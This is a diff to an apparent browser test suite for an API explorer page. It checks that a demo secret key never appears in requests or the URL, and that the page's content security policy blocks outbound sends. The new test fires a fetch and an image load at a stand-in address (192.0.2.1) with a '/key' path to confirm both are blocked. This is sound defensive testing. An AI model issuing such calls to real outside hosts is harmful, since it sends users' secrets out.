@@ -96,7 +96,9 @@ describe('the explorer', () => {
     await using opened = await openExplorer(mock.url);
     const { page } = opened;
     const seen: string[] = [];
-    page.on('request', (request) => seen.push(`${request.url()} ${request.postData() ?? ''}`));
+    page.on('request', (request) =>
+      seen.push(`${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`),
+    );
     await send(page);
     await verdict(page).getByText('OK').waitFor();
     expect(mock.calls().at(-1)).toMatchObject({
@@ -109,6 +111,22 @@ describe('the explorer', () => {
     expect(`${seen.join()} ${kept} ${page.url()}`).not.toContain(demoKey);
     await page.reload();
     expect(await page.getByLabel('Secret key', { exact: true }).inputValue()).toBe('');
+  });
+
+  test('cannot send to another machine, whatever its script does', async () => {
+    await using opened = await docs.open('explorer/');
+    const blocked = await opened.page.evaluate(async () => {
+      const seen = new Set<string>();
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+        seen.add(`${effectiveDirective} ${blockedURI}`),
+      );
+      await fetch('http://192.0.2.1/key').catch(() => {});
+      await new Promise((resolve) =>
+        Object.assign(new Image(), { onerror: resolve, src: 'http://192.0.2.1/key' }),
+      );
+      return [...seen];
+    });
+    expect(blocked).toEqual(['connect-src http://192.0.2.1/key', 'img-src http://192.0.2.1/key']);
   });
 
   test('says what is wrong while typing, counts bytes, and does not send', async () => {
